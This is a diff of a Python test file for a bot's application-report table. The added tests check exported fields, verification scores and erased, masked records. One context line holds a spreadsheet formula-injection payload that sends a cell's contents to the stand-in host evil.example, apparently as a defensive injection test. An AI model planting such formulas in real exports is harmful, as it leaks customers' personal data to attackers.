@@ -11,8 +11,12 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from bot.reports.table import FORMATS, Table, application_table, as_file
+from conversations.application import CARD_FIELDS, EarlierAttempt
+from conversations.erasure import without_form
+from conversations.questions import ASKED
+from conversations.verdict import Decision, Score, Verdict
 from storage.agents import Agent, Role
-from tests.support.forms import AGENT, READ, decided, pending, until
+from tests.support.forms import AGENT, NOW, READ, decided, pending, until
 
 RAHIM = Agent(id=AGENT, name="Rahim", role=Role.AGENT, language="en", team="Khulna")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -63,6 +67,42 @@ def test_full_values_come_only_where_they_are_asked_for() -> None:
     _, row = application_table([decided()], {AGENT: RAHIM}, is_masked=False)
 
     assert {READ["nid_number"], READ["name_english"], "01712345678"} <= set(row)
+
+
+def test_a_full_row_has_every_field_of_the_form_and_how_it_went() -> None:
+    scores = (Score(field="nid", points=100.0), Score(field="selfie", points=None))
+    failed = Verdict(decision=Decision.FAILED, found_at=NOW, scores=scores, selfie_matches=False)
+    form = decided(failed)
+    assert form.submission
+    earlier = EarlierAttempt(submission=form.submission, verdict=failed)
+    headings, row = application_table(
+        [replace(form, earlier=(earlier,))], {AGENT: RAHIM}, is_masked=False
+    )
+    told = dict(zip(headings, row, strict=True))
+
+    assert set(CARD_FIELDS) - {"nid_number"} < set(headings)
+    asked = {key for key in ASKED if key != "mobile_number"}
+    assert asked < set(headings)
+    assert all(told[key] == form.value(key) for key in asked)
+    assert (told["scores"], told["selfie_matches"], told["texts_match"]) == (
+        "nid:100 selfie:",
+        "no",
+        "",
+    )
+    assert told["reasons"] == "selfie"
+    assert told["earlier_attempts"] == "failed 2026-11-23 12:00:00 selfie"
+    assert told["card_read"]
+    assert told["pressed"]
+
+
+def test_an_erased_application_has_empty_fields() -> None:
+    headings, row = application_table(
+        [without_form(decided(), NOW)], {AGENT: RAHIM}, is_masked=False
+    )
+    told = dict(zip(headings, row, strict=True))
+
+    assert told["customer"] == "M••• A••• M•••"
+    assert {told[key] for key in ASKED if key != "mobile_number"} == {""}
 
 
 @pytest.mark.parametrize("name", INJECTIONS)
